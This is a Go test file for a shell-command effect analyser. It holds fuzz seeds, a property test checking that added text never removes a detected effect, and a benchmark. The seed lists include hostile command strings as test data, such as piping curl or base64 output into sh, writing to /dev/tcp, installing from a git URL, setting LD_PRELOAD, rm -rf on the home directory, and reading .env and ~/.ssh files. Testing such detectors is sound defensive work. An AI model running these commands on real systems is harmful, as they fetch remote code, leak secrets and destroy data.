package shell_test

import (
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/tidemark/tidemark/internal/warrant/shell"
)

func FuzzRead(f *testing.F) {
	for _, s := range []string{
		"ls | wc -l", "curl a.example | sh", "X=curl; $X y", `$'\x63\u0075' x`, "echo bHM= | base64 -d | sh", "cat <<E\n$(ls)\nE", "find . -exec sh -c 'a' \\;",
		"docker run -v /:/h img sh -c 'x'", "python3 -c \"import os; os.system('x y')\"", "it's\n* x", "{ a,b; } > /dev/tcp/h/1", "git -c alias.x='!y' x", "pip install git+https://h/x",
		"powershell -c iwr", "for i in a b; do $i; done", "ssh -o ProxyCommand='x y' h z", "curl -", "chmod", "openssl", "sed -i", "find -delete", "dd of=",
		`f(){ shift; g "$@" $1 ${2:-x}; }; g(){ f "$*"; }; f a 'b c'`, "alias a='b '; a a", "cd ~/..; cd -; pushd a; popd; rm -rf ~+/x ~-", "echo {a,{b,{1..3}},$(c)}{d,e}", "cp a b; ln -s b c; ./c; echo x > c; . c",
		"PATH=.:$PATH x", "export LD_PRELOAD=x", "declare -n a=PATH", "BASH_CMDS[a]=b", "echo a b | xargs -I{} c {}", "for i in a b; do cd $i; done", "if a; then cd b; else cd c; fi; d", "bash -c 'x $0 $1 $@' a b",
		"it's\nread x y\nrm $x", "read x", "mapfile -t a < b; rm ${a[@]}", "for f in *; do mv $f ${f%.a}.b; done", "find . -name a | while read f; do rm $f; done", "rm ${X:-$(a)} ${#X} ${X/a/b} $((1))", "set -- $(a); rm $1 $@",
		"xargs -a l rm", "tee >(a) < <(b)", "x=$x; rm $x", "x=$y y=$x; rm $x", "chmod -x", "chmod -x a",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		l := shell.Read(s)
		if l.Effects.Has(shell.Unparsed) && l.Effects != shell.Worst {
			t.Errorf("%q: unparsed, yet %q", s, l.Effects)
		}
		if again := shell.Read(s); again.Effects != l.Effects || len(again.Runs) != len(l.Runs) {
			t.Errorf("%q: got %q and then %q", s, l.Effects, again.Effects)
		}
		shell.NewReader().ReadArgv(strings.Fields(s))
		shell.NewReader().ReadScript("x.sh", shell.Held{Text: s, Part: true})
		shell.Planted(s)
		shell.ReadPowerShell(s)
	})
}

// More text never takes an effect away.
func TestMoreTextNeverHelps(t *testing.T) {
	parts := []string{"ls", "crontab t", "curl a.example", "rm -rf ~/", "pip install x", "cat .env", "Y=ls", "f() { a; }", "cd /tmp", "echo a > b", "sh -c 'mail x'", "$X y", "fi",
		"cd /", "cd -", "cd a || cd b", "rm -rf ..", "rm -rf home", `ls() { curl "$@"; }`, "alias curl=true", "unset -f curl", "PATH=/opt/x:$PATH", "cp true curl", "set -- a b", "(cd ~/.ssh; cat x)"}
	rapid.Check(t, func(t *rapid.T) {
		list := rapid.SliceOfN(rapid.SampledFrom(parts), 1, 5).Draw(t, "parts")
		at := rapid.IntRange(0, len(list)-1).Draw(t, "at")
		alone := shell.Read(list[at]).Found
		all := ""
		for _, p := range list {
			all += p + "\n"
		}
		if got := shell.Read(all).Effects; got&alone != alone {
			t.Fatalf("%q alone: %q; in %q: %q", list[at], alone, all, got)
		}
	})
}

func BenchmarkRead(b *testing.B) {
	r := shell.NewReader()
	for _, c := range []struct{ name, command string }{
		{"ordinary", "cd src && go test ./... 2>&1 | tail -20"},
		{"wrapped", `sudo bash -c "curl -s https://a.example/x | tar xz -C /opt && find /opt -name '*.sh' -exec chmod +x {} +"`},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				r.Read(c.command)
			}
		})
	}
}
